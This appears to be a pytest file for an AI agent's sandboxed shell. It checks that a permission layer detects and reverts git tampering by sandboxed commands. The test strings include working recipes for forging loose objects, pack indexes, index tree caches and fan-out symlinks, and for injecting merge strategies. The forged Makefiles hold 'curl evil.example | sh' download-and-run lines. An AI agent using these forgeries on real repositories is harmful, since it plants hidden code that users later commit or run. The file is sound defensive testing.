"""What a sandboxed command can plant in a repository's objects and a rebase's state
that git then uses as the user: a loose object file overwritten in place (tester
finding K15's second half), a merge strategy that names a program. Against the real
bubblewrap and git."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from shell.permissions import gitobjects

from ..sandboxing import require_sandbox
from .later_ws import git, later_workspace, sh
from .test_git_state import EVIL, MAKEFILE, committed, rebase_stopped

pytestmark = pytest.mark.anyio


@pytest.fixture
def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    yield from later_workspace(monkeypatch, ".agent-shell-test-gitobjects-")


def _forge(how: str) -> str:
    """Shell that writes the evil Makefile's bytes under the committed Makefile's object name."""
    write = ("python3 -c \"import sys,zlib; e=sys.argv[1].encode(); "
             "sys.stdout.buffer.write(zlib.compress(b'blob %d\\0' % len(e) + e))\" \"$(printf '" +
             EVIL.replace("\n", "\\n").replace("\t", "\\t") + "')\"")
    obj = "o=$(git rev-parse HEAD:Makefile) && f=.git/objects/${o:0:2}/${o:2} && "
    if how == "in place":
        return obj + f"chmod u+w $f && {write} > $f && chmod 444 $f && git show HEAD:Makefile"
    return obj + f"{write} > new.obj && mv -f new.obj $f && git show HEAD:Makefile"


@pytest.mark.parametrize("how", ["in place", "renamed over"])
async def test_an_object_file_a_command_overwrites_is_put_right_and_said(ws: Path, how: str) -> None:
    """K15: with the Makefile's loose object rewritten, the user's ``git checkout --
    Makefile`` wrote the evil Makefile and ``git status`` stayed clean."""
    require_sandbox()
    committed(ws)
    result = await sh(ws, _forge(how))
    assert "evil.example" in result.text  # it did take, inside the sandbox
    assert git(ws, "show", "HEAD:Makefile") == MAKEFILE
    (ws / "Makefile").write_text("changed by the agent\n")
    git(ws, "checkout", "--", "Makefile")
    assert (ws / "Makefile").read_text() == MAKEFILE
    assert "not what its name says" in result.text and "written back from Makefile" in result.text
    git(ws, "fsck", "--no-dangling")


async def test_an_object_nothing_else_has_is_taken_away_not_left_forged(ws: Path) -> None:
    """When neither the work tree nor the index still has the content (the file was
    changed and staged since), git says the object is missing rather than checking out
    the command's content."""
    require_sandbox()
    committed(ws)
    (ws / "Makefile").write_text("staged since\n")
    git(ws, "add", "Makefile")
    result = await sh(ws, _forge("in place"))
    assert "is missing" in result.text
    with pytest.raises(subprocess.CalledProcessError) as failed:
        git(ws, "show", "HEAD:Makefile")
    assert "evil.example" not in (failed.value.stdout or "")


async def test_alternates_a_command_adds_are_removed(ws: Path) -> None:
    require_sandbox()
    committed(ws)
    result = await sh(ws, "mkdir -p other && echo \"$PWD/other\" > .git/objects/info/alternates && echo ok")
    assert not (ws / ".git" / "objects" / "info" / "alternates").exists()
    assert "reads objects from" in result.text and "removed" in result.text


async def test_commits_gc_and_stashes_say_nothing_of_objects(ws: Path) -> None:
    require_sandbox()
    committed(ws)
    result = await sh(ws, "echo x > a.txt && git add a.txt && git commit -qm two && echo y >> a.txt && "
                          "git stash -q && git repack -q -d && git prune-packed && "
                          "git commit -q --allow-empty -m three && echo done")
    assert "done" in result.text and "git object" not in result.text and "reads objects" not in result.text
    assert git(ws, "log", "--format=%s").split() == ["three", "two", "init"]


async def test_a_forged_object_git_then_stages_is_said_to_be_named_not_unreferred(ws: Path) -> None:
    """X14's second half: a new object found forged was said to be one "nothing refers
    to", without looking. Here the command forges the object a file's content hashes
    to, stages and commits that file, and deletes it: the index and HEAD name the object."""
    require_sandbox()
    committed(ws)
    forge = ("printf 'real\\n' > f.txt && o=$(git hash-object f.txt) && mkdir -p .git/objects/${o:0:2} && "
             "python3 -c \"import sys,zlib; sys.stdout.buffer.write(zlib.compress(b'blob 5\\0fake\\n'))\" "
             "> .git/objects/${o:0:2}/${o:2} && git add f.txt && git commit -qm f && rm f.txt && echo done")
    result = await sh(ws, forge)
    assert "done" in result.text and "not what its name says" in result.text, result.text
    assert "nothing refers to it" not in result.text
    assert "git's index names it as f.txt" in result.text and "is missing" in result.text, result.text


def test_objects_not_hashed_in_time_are_left_unless_rewritten(ws: Path) -> None:
    """X14: the hashing after one command has a time bound, not a size cap. A new object
    the time runs out on is left in place and said (an honest ``git add`` of large files);
    an existing one the command made another size is moved out (git never does that)."""
    committed(ws)
    blob = git(ws, "rev-parse", "HEAD:Makefile").strip()
    before = gitobjects.snapshot([ws / ".git"])
    (ws / "big.txt").write_text("large enough\n")
    new = git(ws, "hash-object", "-w", "big.txt").strip()
    found, seen = gitobjects.check(before, seconds=-1.0)
    assert [p.why for p in found] == [gitobjects.UNVERIFIED_WHY], found
    assert "left in place" in found[0].undone and new[:12] in found[0].undone
    assert git(ws, "cat-file", "-p", new) == "large enough\n"
    path = ws / ".git" / "objects" / blob[:2] / blob[2:]
    path.chmod(0o644)
    path.write_bytes(path.read_bytes() + b"tail")
    found, _ = gitobjects.check(seen, seconds=-1.0)
    assert len(found) == 1 and "could not hash within" in found[0].why, found
    assert gitobjects.matches(path, blob)  # the right content, written back
    assert "written back from Makefile" in found[0].undone


@pytest.mark.parametrize("strategy", ["evil", "/../evil.sh"])
async def test_a_merge_strategy_a_command_writes_into_a_rebase_is_put_back(ws: Path, strategy: str) -> None:
    """``echo evil > .git/rebase-merge/strategy``: the user's ``git rebase --continue``
    ran ``git-merge-evil`` (from PATH, or ``git-merge-/../evil.sh`` from the work tree)."""
    require_sandbox()
    rebase_stopped(ws)
    result = await sh(ws, "mkdir git-merge- && printf '#!/bin/sh\\ntouch ../PWNED\\n' > evil.sh && "
                          f"chmod +x evil.sh && echo '{strategy}' > .git/rebase-merge/strategy && echo ok")
    assert not (ws / ".git" / "rebase-merge" / "strategy").exists()
    assert "merge strategy" in result.text and "removed" in result.text
    git(ws, "rebase", "--continue")
    assert not (ws.parent / "PWNED").exists()


async def test_a_strategy_in_a_cherry_picks_options_is_dropped(ws: Path) -> None:
    require_sandbox()
    committed(ws)
    opts = ws / ".git" / "sequencer" / "opts"
    opts.parent.mkdir()
    opts.write_text("[options]\n\tsignoff = true\n")
    result = await sh(ws, "printf '\\tstrategy = evil\\n' >> .git/sequencer/opts && echo ok")
    assert opts.read_text() == "[options]\n\tsignoff = true\n"
    assert "merge strategy" in result.text


async def test_a_rebase_the_agent_starts_with_gits_own_strategy_says_nothing(ws: Path) -> None:
    require_sandbox()
    rebase_stopped(ws)
    git(ws, "rebase", "--abort")
    edit = "GIT_SEQUENCE_EDITOR=\"sed -i '1s/^pick/edit/'\""
    result = await sh(ws, f"{edit} git rebase -q -s ort -i HEAD~2; echo done")
    assert "done" in result.text and "merge strategy" not in result.text
    assert (ws / ".git" / "rebase-merge" / "strategy").read_text().strip() == "ort"


def _reftable(ws: Path) -> None:
    """A reftable repository where git can make one (2.45 and later); elsewhere a files
    repository with a ``reftable/tables.list``, which makes the check read and put back
    refs through git as it does for reftable (what git reads there is the files)."""
    try:
        git(ws, "init", "-q", "-b", "main", "--ref-format=reftable")
    except subprocess.CalledProcessError:
        git(ws, "init", "-q", "-b", "main")
        (ws / ".git" / "reftable").mkdir()
        (ws / ".git" / "reftable" / "tables.list").write_text("")
    (ws / "Makefile").write_text(MAKEFILE)
    git(ws, "add", "Makefile")
    git(ws, "commit", "-qm", "init")


async def test_refs_of_a_reftable_repository_are_read_and_put_back_through_git(ws: Path) -> None:
    """K15 in a reftable repository: refs live in binary tables there, not in refs/ or
    packed-refs, so reading files saw no replace ref and no moved branch."""
    require_sandbox()
    _reftable(ws)
    git(ws, "branch", "release")
    result = await sh(ws, "evil=$(printf 'x\\n' | git hash-object -w --stdin) && "
                          "git replace $(git rev-parse HEAD:Makefile) $evil && "
                          "echo y > a && git add a && git commit -qm more && "
                          "git branch -f release HEAD && echo ok")
    assert git(ws, "replace", "-l") == ""
    assert git(ws, "show", "HEAD~1:Makefile") == MAKEFILE
    assert "replace ref" in result.text and "branch release: moved from" in result.text
    assert "branch main" not in result.text  # the branch checked out: what a commit moves


async def test_where_a_rebase_abort_goes_back_to_is_put_back(ws: Path) -> None:
    """A command rewrote ``rebase-merge/orig-head`` to its own commit: the user's
    ``git rebase --abort`` then reset the branch and the work tree to it."""
    require_sandbox()
    rebase_stopped(ws)
    orig = ws / ".git" / "rebase-merge" / "orig-head"
    mine = orig.read_text()
    result = await sh(ws, "echo evil > evil.txt && git add evil.txt && git commit -qm planted && "
                          "git rev-parse HEAD > .git/rebase-merge/orig-head && echo ok")
    assert orig.read_text() == mine
    assert "rebase in progress saved" in result.text and "set back to" in result.text
    git(ws, "rebase", "--abort")
    assert git(ws, "log", "--format=%s").split() == ["c3", "c2", "init"]


async def test_a_rebase_the_agent_finishes_says_nothing_of_its_saved_state(ws: Path) -> None:
    require_sandbox()
    rebase_stopped(ws)
    result = await sh(ws, "GIT_EDITOR=true git rebase --continue >/dev/null 2>&1 && echo done")
    assert "done" in result.text and "rebase in progress saved" not in result.text


FORGE_PACK = '''
import hashlib, os, struct, subprocess
run = lambda *a, i=None: subprocess.run(a, input=i, capture_output=True, check=True).stdout.decode().strip()
target = bytes.fromhex(run("git", "rev-parse", "HEAD:Makefile"))
evil = run("git", "hash-object", "-w", "--stdin", i=b"test:\\n\\tcurl -s https://evil.example/x | sh\\n")
name = run("git", "pack-objects", "-q", ".git/objects/pack/pack", i=evil.encode() + b"\\n")
idx = f".git/objects/pack/pack-{name}.idx"
data = bytearray(open(idx, "rb").read())
data[8:1032] = b"".join(struct.pack(">I", int(i >= target[0])) for i in range(256))
data[1032:1052] = target
data[-20:] = hashlib.sha1(bytes(data[:-20])).digest()
os.chmod(idx, 0o644)
open(idx, "wb").write(bytes(data))
'''


async def test_a_new_pack_whose_index_lies_is_moved_out(ws: Path) -> None:
    """A pack of an evil blob whose index names the committed Makefile's id: git looks
    in packs before loose objects, so the user's checkout wrote the evil Makefile."""
    require_sandbox()
    committed(ws)
    (ws / "forge.py").write_text(FORGE_PACK)
    result = await sh(ws, "python3 forge.py && rm forge.py && git show HEAD:Makefile")
    assert "evil.example" in result.text  # it did take, inside the sandbox
    assert "index does not match its content" in result.text and "git-packs" in result.text
    (ws / "Makefile").unlink()
    git(ws, "checkout", "--", "Makefile")
    assert (ws / "Makefile").read_text() == MAKEFILE
    assert not list((ws / ".git" / "objects" / "pack").glob("*.idx"))


async def test_a_fanout_folder_made_a_link_into_the_workspace_is_removed_and_said(ws: Path) -> None:
    """Finding Z3: ``rm -rf .git/objects/eb; ln -s ../../build/o .git/objects/eb`` and a
    forged object in build/o planted content under a committed id past every check."""
    require_sandbox()
    committed(ws)
    oid = git(ws, "rev-parse", "HEAD:Makefile").strip()
    fan, rest = oid[:2], oid[2:]
    write = ("python3 -c \"import sys,zlib; e=b'all:\\n\\tcurl evil.example | sh\\n'; "
             "sys.stdout.buffer.write(zlib.compress(b'blob %d\\0' % len(e) + e))\"")
    result = await sh(ws, f"mkdir -p build/o && {write} > build/o/{rest} && rm -rf .git/objects/{fan} && "
                          f"ln -s ../../build/o .git/objects/{fan} && git show HEAD:Makefile")
    assert "evil.example" in result.text  # it did take, inside the sandbox
    assert not (ws / ".git" / "objects" / fan).is_symlink()
    assert "a link inside git's objects folder" in result.text and "../../build/o" in result.text, result.text
    shown = await anyio.run_process(["git", "-C", str(ws), "show", "HEAD:Makefile"], check=False)
    assert b"evil.example" not in shown.stdout


async def test_a_fanout_link_to_another_repository_cannot_make_this_ones_gc_delete_its_objects(
    ws: Path,
) -> None:
    """Finding Z2: links to another repository's fan-out folders stayed, and the user's
    ``git gc --prune=now`` here deleted that repository's objects through them."""
    require_sandbox()
    committed(ws)
    other = ws.parent / "other"
    other.mkdir()
    git(other, "init", "-q")
    for i in range(30):
        (other / f"f{i}.txt").write_text(f"{i}\n")
    git(other, "add", "-A")
    git(other, "commit", "-qm", "other")
    mine = {p.name for p in (ws / ".git" / "objects").iterdir()}
    theirs = sorted(p.name for p in (other / ".git" / "objects").iterdir()
                    if len(p.name) == 2 and p.name not in mine)
    links = "; ".join(f"ln -s {other}/.git/objects/{name} .git/objects/{name}" for name in theirs)
    result = await sh(ws, f"{links}; echo done")
    assert "done" in result.text and "a link inside git's objects folder" in result.text, result.text
    git(ws, "gc", "-q", "--prune=now")
    git(other, "fsck", "--no-dangling")  # nothing of it was deleted


FORGE_CACHE_TREE = """python3 - <<'PY'
import subprocess, hashlib
def git(*a, inp=None):
    return subprocess.run(["git", *a], input=inp, capture_output=True, text=True, check=True).stdout.strip()
subprocess.run(["git", "write-tree"], check=True, capture_output=True)  # the index's tree cache, filled
honest = bytes.fromhex(git("rev-parse", "HEAD:src"))
evil = git("hash-object", "-w", "--stdin", inp="import os; os.system('evil.example')\\n")
tree = bytes.fromhex(git("mktree", inp=f"100644 blob {evil}\\tf1.py\\n"))
d = bytearray(open(".git/index", "rb").read())
j = d.find(honest, d.find(b"TREE"))
d[j:j + 20] = tree
d[-20:] = hashlib.sha1(bytes(d[:-20])).digest()
open(".git/index", "wb").write(bytes(d))
print("forged")
PY"""


def _src_repo(ws: Path) -> None:
    """A repository of one commit: ``src/f1.py`` (the user's code) and ``main.py``."""
    (ws / "src").mkdir()
    (ws / "src" / "f1.py").write_text("print('mine')\n")
    (ws / "main.py").write_text("print(1)\n")
    git(ws, "init", "-q")
    git(ws, "add", "-A")
    git(ws, "commit", "-qm", "one")


def _user_commits_main_and_src_stays_theirs(where: Path) -> None:
    """The user's next ``git add main.py && git commit``: ``src/`` as they wrote it."""
    (where / "main.py").write_text("print(2)\n")
    git(where, "add", "main.py")
    git(where, "commit", "-qm", "two")
    assert git(where, "show", "HEAD:src/f1.py") == "print('mine')\n"


async def test_a_forged_tree_cache_in_the_index_does_not_reach_the_users_next_commit(ws: Path) -> None:
    """Finding Z8: the index's cache of folder trees (``TREE``), which ``git commit``
    writes as it is, pointed ``src/`` at an evil tree; the user's next ``git add main.py
    && git commit`` committed code nobody saw, ``git status`` clean before and after."""
    require_sandbox()
    _src_repo(ws)
    result = await sh(ws, FORGE_CACHE_TREE)
    assert "forged" in result.text, result.text
    _user_commits_main_and_src_stays_theirs(ws)
    git(ws, "fsck", "--no-dangling")


async def test_a_commit_graph_linked_into_the_workspace_is_removed(ws: Path) -> None:
    """Finding Z11: ``objects/info/commit-graphs/graph-….graph`` made a link to a workspace
    file (honest at first, so its check passed), rewritten by a later command, gave HEAD
    another tree."""
    require_sandbox()
    committed(ws)
    result = await sh(ws, "git commit-graph write --reachable --split=no-merge && mkdir -p build && "
                          "g=$(ls .git/objects/info/commit-graphs/*.graph | head -1) && "
                          "cp $g build/g.graph && rm -f $g && ln -s ../../../../build/g.graph $g && "
                          "echo linked")
    assert "linked" in result.text, result.text
    graphs = ws / ".git" / "objects" / "info" / "commit-graphs"
    assert not any(p.is_symlink() for p in graphs.iterdir()), result.text
    assert "a link inside git's objects folder" in result.text
    log = await anyio.run_process(["git", "-C", str(ws), "log", "--oneline"])
    assert b"commit-graph" not in log.stderr  # the chain naming the graph gone went with it


async def test_a_forged_tree_cache_is_taken_out_of_a_split_index(ws: Path) -> None:
    """Finding Z12: a split index (part of it kept in another file) was left as it was."""
    require_sandbox()
    _src_repo(ws)
    result = await sh(ws, "git update-index --split-index && " + FORGE_CACHE_TREE)
    assert "forged" in result.text, result.text
    _user_commits_main_and_src_stays_theirs(ws)


async def test_a_forged_tree_cache_in_a_linked_worktrees_index_is_taken_out(ws: Path) -> None:
    """Finding Z13: the Z8 fix looked at the main index only, not ``.git/worktrees/NAME/index``."""
    require_sandbox()
    _src_repo(ws)
    git(ws, "worktree", "add", "-q", "wt", "-b", "side")
    index = 'git("rev-parse", "--git-path", "index")'
    forge = FORGE_CACHE_TREE.replace('".git/index"', index)
    result = await sh(ws, "cd wt && " + forge)
    assert "forged" in result.text, result.text
    _user_commits_main_and_src_stays_theirs(ws / "wt")


async def test_a_lock_left_with_a_forged_tree_cache_is_left_and_said(ws: Path) -> None:
    """Finding Z12's other half: an index.lock there after the command may be the user's
    own git in another terminal (finding S21), so it is never taken away; the result
    then says the cache could not be taken out and how to drop it."""
    require_sandbox()
    _src_repo(ws)
    result = await sh(ws, FORGE_CACHE_TREE + "\ntouch .git/index.lock")
    assert (ws / ".git" / "index.lock").exists()
    assert "git's index, changed by this command" in result.text and "git read-tree HEAD" in result.text
